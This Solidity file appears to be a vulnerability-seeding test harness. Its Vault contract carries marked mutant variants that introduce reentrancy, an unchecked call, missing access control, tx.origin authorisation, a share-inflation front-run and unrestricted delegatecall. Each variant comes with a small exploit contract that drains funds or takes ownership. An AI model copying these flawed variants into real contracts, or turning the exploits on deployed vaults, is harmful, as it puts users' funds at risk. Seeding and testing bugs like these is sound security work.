// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

contract Vault {
    address public owner;
    uint256 public totalShares;
    mapping(address => uint256) public shares;
    mapping(address => bool) public plugins;

    constructor(address owner_) {
        owner = owner_;
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    receive() external payable {}

    function deposit(uint256 minShares) external payable {
        uint256 before = address(this).balance - msg.value;
        uint256 minted = totalShares == 0 ? msg.value : msg.value * totalShares / before;
        //[
        require(minted >= minShares, "too few shares");
        //| front-running Inflate
        //]
        shares[msg.sender] += minted;
        totalShares += minted;
    }

    function withdraw() external {
        uint256 held = shares[msg.sender];
        require(held > 0, "no shares");
        uint256 value = held * address(this).balance / totalShares;
        //[
        shares[msg.sender] = 0;
        totalShares -= held;
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "payment failed");
        //| reentrancy Reenter
        //: (bool ok, ) = msg.sender.call{value: value}("");
        //: require(ok, "payment failed");
        //: shares[msg.sender] = 0;
        //: totalShares -= held;
        //| unchecked-call Lost
        //: shares[msg.sender] = 0;
        //: totalShares -= held;
        //: msg.sender.call{value: value}("");
        //]
    }

    //[
    function setOwner(address next) external onlyOwner {
    //| access Seize
    //: function setOwner(address next) external {
    //]
        owner = next;
    }

    function sweep(address payable to, uint256 amount) external {
        //[
        require(msg.sender == owner, "not the owner");
        //| tx.origin Phish
        //: require(tx.origin == owner, "not the owner");
        //| access Sweep
        //]
        require(amount <= address(this).balance, "too much");
        to.transfer(amount);
    }

    function setPlugin(address plugin, bool allowed) external onlyOwner {
        plugins[plugin] = allowed;
    }

    function runPlugin(address plugin, bytes calldata data) external {
        //[
        require(plugins[plugin], "unknown plugin");
        //| delegatecall Hijack
        //]
        (bool ok, ) = plugin.delegatecall(data);
        require(ok, "plugin failed");
    }
}

//! scene
contract Scene {
    Actor ann = new Actor();
    Vault target = new Vault(address(ann));

    receive() external payable virtual {}
}

contract Use is Scene {
    function run() external payable returns (bool) {
        target.deposit{value: 4 ether}(4 ether);
        ann.act{value: 4 ether}(address(target), abi.encodeCall(Vault.deposit, (0)));
        uint256 had = address(this).balance;
        target.withdraw();
        bool paid = address(this).balance == had + 4 ether && target.totalShares() == 4 ether;
        paid = paid && ann.act(address(target), abi.encodeCall(Vault.setPlugin, (address(new Evil()), true)));
        return paid && ann.act(address(target), abi.encodeCall(Vault.setOwner, (address(this)))) && target.owner() == address(this);
    }
}

contract Inflate is Scene {
    function run() external payable returns (bool) {
        target.deposit{value: 1}(1);
        (bool ok, ) = address(target).call{value: 10 ether}("");
        ann.act{value: 10 ether}(address(target), abi.encodeCall(Vault.deposit, (1)));
        uint256 had = address(this).balance;
        target.withdraw();
        return ok && address(this).balance > had + 11 ether;
    }
}

contract Reenter is Scene {
    uint256 left = 2;

    receive() external payable override {
        if (left > 0) {
            left--;
            target.withdraw();
        }
    }

    function run() external payable returns (bool) {
        ann.act{value: 10 ether}(address(target), abi.encodeCall(Vault.deposit, (0)));
        target.deposit{value: 3 ether}(0);
        uint256 had = address(this).balance;
        target.withdraw();
        return address(this).balance > had + 3 ether;
    }
}

contract Lost is Scene {
    function run() external payable returns (bool) {
        Mute mute = new Mute();
        mute.act{value: 1 ether}(address(target), abi.encodeCall(Vault.deposit, (0)));
        bool ok = mute.act(address(target), abi.encodeCall(Vault.withdraw, ()));
        return ok && target.shares(address(mute)) == 0 && address(mute).balance == 0;
    }
}

contract Seize is Scene {
    function run() external payable returns (bool) {
        target.setOwner(address(this));
        return target.owner() == address(this);
    }
}

contract Sweep is Scene {
    function run() external payable returns (bool) {
        ann.act{value: 1 ether}(address(target), abi.encodeCall(Vault.deposit, (0)));
        uint256 had = address(this).balance;
        target.sweep(payable(address(this)), 1 ether);
        return address(this).balance == had + 1 ether;
    }
}

contract Phish {
    function run() external payable returns (bool) {
        Vault target = new Vault(tx.origin);
        target.deposit{value: 1 ether}(0);
        target.sweep(payable(address(0xb01)), 1 ether);
        return address(target).balance == 0;
    }
}

contract Evil {
    address public owner;

    function take() external {
        owner = msg.sender;
    }
}

contract Hijack is Scene {
    function run() external payable returns (bool) {
        target.runPlugin(address(new Evil()), abi.encodeCall(Evil.take, ()));
        return target.owner() == address(this);
    }
}
